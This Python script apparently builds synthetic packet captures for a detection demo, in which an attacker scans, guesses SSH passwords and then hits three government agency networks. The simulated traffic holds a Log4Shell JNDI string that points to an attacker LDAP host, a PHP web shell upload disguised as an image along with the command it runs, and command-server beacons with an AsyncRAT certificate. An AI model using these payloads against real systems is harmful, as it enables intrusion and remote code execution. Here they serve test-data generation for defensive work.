"""What the three agencies of deploy/demo see in the same quarter of an hour: one attacker goes through all of them. At G02 it scans, guesses SSH
passwords and gets in by Log4Shell; at G22 it takes a web server of the document exchange axis; at H26 it only guesses. The machines that it took
call the same command server. Between that, everybody's ordinary day. Networks as in deploy/agencies.yaml."""
import base64
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))
from build import TCP, Capture, dns_answer, dns_query, here, http_request, http_response, ssh_banner_exchange, tls_handshake

ATTACKER, COMMAND_SERVER = '203.0.113.66', '198.51.100.23'
START = 1_795_140_000.0


def ordinary_day(c, net, host):
    for i in range(6):
        pc, ident = f'{net}.1.{20 + i}', c.random.randrange(65536)
        c.udp(pc, f'{net}.0.53', 53, dns_query(ident, host), dns_answer(ident, host, bytes([10, 22, 30, 80])))
        with c.tcp(pc, '10.22.30.80', 80) as s:
            for page in range(3):
                s.client(http_request('GET', f'/ho-so?trang={page}', host, ['Referer: http://cong.example.gov.vn/']))
                s.server(http_response('<p>Hồ sơ trực tuyến</p>'.encode() * 20))
        c.wait(2)
    with c.tcp(f'{net}.1.20', '10.22.30.80', 443) as s:
        tls_handshake(s, host, '/C=VN/O=Co quan Mau/CN=' + host)


def scan(c, target):
    for port in range(20, 60):
        sport, seq = c.port(), c.random.randrange(1 << 32)
        c.add(c.ip(ATTACKER, target) / TCP(sport=sport, dport=port, flags='S', seq=seq, window=1024), gap=0.03)
        c.add(c.ip(target, ATTACKER) / TCP(sport=port, dport=sport, flags='RA', seq=0, ack=seq + 1, window=0), gap=0.001)


def guess_ssh(c, target, times=14):
    for _ in range(times):
        with c.tcp(ATTACKER, target, 22, close='rst') as s:
            ssh_banner_exchange(s)
        c.wait(2)


def log4shell(c, target):
    with c.tcp(ATTACKER, target, 8080) as s:
        s.client(http_request('GET', '/', 'mottcua.example.gov.vn:8080', agent='${jndi:ldap://203.0.113.66:1389/a}'))
        s.server(http_response(b'ok', kind='text/plain'))


def webshell(c, target):
    edge = '----vong7a1'
    form = (f'--{edge}\r\nContent-Disposition: form-data; name="tep"; filename="anh.php"\r\nContent-Type: image/png\r\n\r\n'
            '<?php system(base64_decode($_POST["c"])); ?>' f'\r\n--{edge}--\r\n').encode()
    with c.tcp(ATTACKER, target, 80) as s:
        s.client(http_request('POST', '/quan-tri/tai-len', 'truc.example.gov.vn', [f'Content-Type: multipart/form-data; boundary={edge}'], form))
        s.server(http_response(b'{"tep":"/tep/anh.php"}', kind='application/json'))
        s.client(http_request('POST', '/tep/anh.php', 'truc.example.gov.vn', ['Content-Type: application/x-www-form-urlencoded'], b'c=aWQ%3D'))
        s.server(http_response(b'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n', kind='text/plain'))


def beacon(c, victim, times=4):
    for i in range(times):
        with c.tcp(victim, COMMAND_SERVER, 80) as s:
            body = base64.b64encode(f'id=7f3a91;n={i}'.encode())
            s.client(http_request('POST', '/gate.php', 'cdn-update.example.net', ['Content-Type: application/octet-stream'], body,
                                  agent='Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; vng)'))
            s.server(http_response(b'SLEEP 60', kind='application/octet-stream'))
        c.wait(30)


g02 = Capture(START, seed=102)
ordinary_day(g02, '10.2', 'dichvucong.example.gov.vn')
scan(g02, '10.2.10.80')
guess_ssh(g02, '10.2.10.22')
log4shell(g02, '10.2.10.80')
beacon(g02, '10.2.10.80')
g02.write(here(__file__, 'G02.pcap'))

g22 = Capture(START + 60, seed=122)
ordinary_day(g22, '10.22', 'vanban.example.gov.vn')
scan(g22, '10.22.10.80')
webshell(g22, '10.22.10.80')
beacon(g22, '10.22.10.80')
with g22.tcp('10.22.10.80', COMMAND_SERVER, 8443) as session:
    tls_handshake(session, 'cdn-update.example.net', '/C=US/CN=AsyncRAT Server', days=3650)
g22.write(here(__file__, 'G22.pcap'))

h26 = Capture(START + 120, seed=126)
ordinary_day(h26, '10.29', 'hanoi.example.gov.vn')
scan(h26, '10.29.10.80')
guess_ssh(h26, '10.29.10.22', 20)
h26.write(here(__file__, 'H26.pcap'))
